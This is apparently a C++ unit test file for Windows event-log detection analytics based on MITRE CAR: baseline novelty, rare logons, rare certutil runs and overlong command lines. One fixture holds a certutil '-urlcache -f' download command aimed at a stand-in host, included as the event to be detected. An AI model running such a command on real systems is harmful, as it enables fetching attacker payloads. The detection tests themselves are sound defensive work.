// The catalogue's analytics that judge an event against the collection:
// their baselines' edges (docs/analytics/<CAR id>.md): too small a baseline
// judges nothing, a tie with the threshold is not an outlier, history on any
// host makes a value usual.
#include "analytics/car_2013_10_001.hpp"
#include "analytics/car_2014_11_002.hpp"
#include "analytics/car_2020_05_003.hpp"
#include "analytics/car_2021_01_002.hpp"
#include "analytics/catalogue_support.hpp"
#include "analytics/novelty_baseline.hpp"
#include "catch.hpp"

using namespace evtxcar;

namespace {

constexpr filetime_ticks day_one = 133'000'000'000'000'000ULL;  // 2022-06-17, any day

car_event process_create(const std::string& host, filetime_ticks time, const std::string& exe,
                         const std::string& command_line, const std::string& parent = "explorer.exe") {
    car_event event;
    event.object = "process";
    event.action = "create";
    event.time = time;
    event.set(car_field::hostname, host);
    event.set(car_field::image_path, "C:\\Windows\\System32\\" + exe);
    event.set(car_field::exe, exe);
    event.set(car_field::command_line, command_line);
    event.set(car_field::parent_exe, parent);
    return event;
}

car_event logon(const std::string& user, filetime_ticks time) {
    car_event event;
    event.object = "user_session";
    event.action = "login";
    event.time = time;
    event.set(car_field::hostname, "SRV01");
    event.set(car_field::user, user);
    return event;
}

std::vector<detection> run(const analytic& candidate, const std::vector<car_event>& events) {
    std::vector<detection> out;
    analytic_warnings warnings;
    process_index index;
    pid_tracker pids;
    const process_context context(index, pids);
    detection_output found;  // one event's, as the timeline pass hands it
    for (const car_event& event : events) {
        found.clear();
        candidate.evaluate(event, context, found, warnings);
        for (const detection& one : found) out.push_back(one);
    }
    candidate.finish(out);
    return out;
}

}  // namespace

TEST_CASE("novelty baseline: new on a host's last day, and never before on any host", "[analytics][catalogue]") {
    novelty_baseline baseline(ticks_per_day, 3);
    const auto event_at = [](const std::string& host, filetime_ticks time) {
        car_event event;
        event.time = time;
        event.set(car_field::hostname, host);
        return event;
    };
    // WS01: a, a, a on day one, b on day three. WS02: only its last day, with a and c.
    for (int i = 0; i < 3; ++i) baseline.add(event_at("WS01", day_one + static_cast<filetime_ticks>(i) * ticks_per_hour), "a", "A");
    baseline.add(event_at("WS01", day_one + 2 * ticks_per_day), "b", "B");
    baseline.add(event_at("WS02", day_one + 2 * ticks_per_day), "a", "A");
    baseline.add(event_at("WS02", day_one + 2 * ticks_per_day + ticks_per_hour), "c", "C");
    const auto verdict = baseline.finish();
    CHECK(verdict.judged);
    CHECK(verdict.history == 3);  // WS01's day one
    std::set<std::pair<std::string, std::string>> found;
    for (const auto& novelty : verdict.novelties) found.emplace(novelty.host, novelty.shown);
    // a is WS01's history, so it is usual on WS02 too; b and c are new.
    CHECK(found == std::set<std::pair<std::string, std::string>>{{"ws01", "B"}, {"ws02", "C"}});

    novelty_baseline small(ticks_per_day, 4);  // one more than the history holds
    for (int i = 0; i < 3; ++i) small.add(event_at("WS01", day_one + static_cast<filetime_ticks>(i) * ticks_per_hour), "a", "A");
    small.add(event_at("WS01", day_one + 2 * ticks_per_day), "b", "B");
    const auto unjudged = small.finish();
    CHECK_FALSE(unjudged.judged);
    CHECK(unjudged.novelties.empty());
}

TEST_CASE("CAR-2014-11-002: too small a history judges nothing", "[analytics][catalogue]") {
    const car_2014_11_002 analytic;
    std::vector<car_event> events;
    for (std::uint64_t i = 0; i < car_2014_11_002::minimum_history - 1; ++i) {
        events.push_back(process_create("WS01", day_one + i * ticks_per_minute, "cmd.exe", "cmd.exe"));
    }
    events.push_back(process_create("WS01", day_one + 3 * ticks_per_day, "cmd.exe", "cmd.exe /c x", "outlook.exe"));
    CHECK(run(analytic, events).empty());
    events.insert(events.begin(), process_create("WS01", day_one - ticks_per_minute, "cmd.exe", "cmd.exe"));
    const auto found = run(car_2014_11_002{}, events);
    REQUIRE(found.size() == 1);
    CHECK(found[0].event.text(car_field::parent_exe) == "outlook.exe");
    CHECK(found[0].reason.find("baseline: 50 cmd.exe starts") != std::string::npos);
}

TEST_CASE("CAR-2013-10-001: only more than 30 accounts, and a tie with the 30th is as usual", "[analytics][catalogue]") {
    std::vector<car_event> events;
    filetime_ticks t = day_one;
    for (int user = 0; user < 30; ++user) {
        events.push_back(logon("CORP\\user" + std::to_string(user), t += ticks_per_minute));
        events.push_back(logon("CORP\\user" + std::to_string(user), t += ticks_per_minute));
    }
    CHECK(run(car_2013_10_001{}, events).empty());  // 30 accounts: all in the top 30
    events.push_back(logon("CORP\\tied", t += ticks_per_minute));
    events.push_back(logon("CORP\\tied", t += ticks_per_minute));
    CHECK(run(car_2013_10_001{}, events).empty());  // 2 logons, as many as the 30th
    events.push_back(logon("CORP\\rare", t += ticks_per_minute));
    const auto found = run(car_2013_10_001{}, events);
    REQUIRE(found.size() == 1);
    CHECK(found[0].event.text(car_field::user) == "CORP\\rare");
    CHECK(found[0].reason.find("the 30th has 2") != std::string::npos);
}

TEST_CASE("CAR-2020-05-003: mean minus 1.5 standard deviations, sample deviation", "[analytics][catalogue]") {
    std::vector<car_event> events;
    filetime_ticks t = day_one;
    // Counts 3, 3, 3: no spread, nothing is rare.
    for (int line = 0; line < 3; ++line) {
        for (int run_of = 0; run_of < 3; ++run_of) {
            events.push_back(process_create("WS01", t += ticks_per_minute, "certutil.exe", "certutil -v " + std::to_string(line)));
        }
    }
    CHECK(run(car_2020_05_003{}, events).empty());
    // Counts 3, 3, 3, 3, 3, 3 and 1: mean 19/7 = 2.71, sample deviation 0.76, bound 1.58: the 1 is rare.
    for (int line = 3; line < 6; ++line) {
        for (int run_of = 0; run_of < 3; ++run_of) {
            events.push_back(process_create("WS01", t += ticks_per_minute, "certutil.exe", "certutil -v " + std::to_string(line)));
        }
    }
    events.push_back(process_create("WS01", t += ticks_per_minute, "certutil.exe", "certutil -urlcache -f http://x/y"));
    const auto found = run(car_2020_05_003{}, events);
    REQUIRE(found.size() == 1);
    CHECK(found[0].event.text(car_field::command_line) == "certutil -urlcache -f http://x/y");
    CHECK(found[0].reason.find("mean 2.71 runs each, standard deviation 0.76") != std::string::npos);
    CHECK(found[0].reason.find("= 1.58") != std::string::npos);
}

TEST_CASE("CAR-2021-01-002: 10 times the host's mean, with at least 20 command lines", "[analytics][catalogue]") {
    std::vector<car_event> events;
    filetime_ticks t = day_one;
    for (int i = 0; i < 18; ++i) events.push_back(process_create("WS01", t += ticks_per_minute, "notepad.exe", "notepad a.txt"));
    events.push_back(process_create("WS01", t += ticks_per_minute, "powershell.exe", std::string(1000, 'x')));
    CHECK(run(car_2021_01_002{}, events).empty());  // 19 command lines: no mean worth the name
    events.push_back(process_create("WS01", t += ticks_per_minute, "notepad.exe", "notepad a.txt"));
    const auto found = run(car_2021_01_002{}, events);
    REQUIRE(found.size() == 1);  // 20 lines, mean (19 x 13 + 1000) / 20 = 62.35: 1000 is over 623.5
    CHECK(found[0].reason.find("threshold 623.5") != std::string::npos);
}

TEST_CASE("CAR-2021-01-002: lengths in characters, not UTF-8 bytes", "[analytics][catalogue]") {
    // Each host: 19 lines "notepad a.txt" (13 characters) and one line of 'é'.
    // WS01's has 400 (800 bytes): mean (247 + 400) / 20 = 32.35, threshold
    // 323.5, and 400 is over it. WS02's has 200 (400 bytes): in characters
    // the mean is 22.35 and 200 is under the threshold 223.5; in bytes the
    // mean would be 32.35 and 400 over 323.5.
    std::vector<car_event> events;
    filetime_ticks t = day_one;
    std::string e_acute_400, e_acute_200;
    for (int i = 0; i < 400; ++i) e_acute_400 += "\xC3\xA9";
    for (int i = 0; i < 200; ++i) e_acute_200 += "\xC3\xA9";
    for (const char* host : {"WS01", "WS02"}) {
        for (int i = 0; i < 19; ++i) events.push_back(process_create(host, t += ticks_per_minute, "notepad.exe", "notepad a.txt"));
    }
    events.push_back(process_create("WS01", t += ticks_per_minute, "cmd.exe", e_acute_400));
    events.push_back(process_create("WS02", t += ticks_per_minute, "cmd.exe", e_acute_200));
    const auto found = run(car_2021_01_002{}, events);
    REQUIRE(found.size() == 1);
    CHECK(found[0].event.text(car_field::command_line) == e_acute_400);
    CHECK(found[0].reason.find("command line of 400 characters") != std::string::npos);
    CHECK(found[0].reason.find("threshold 323.5") != std::string::npos);
}
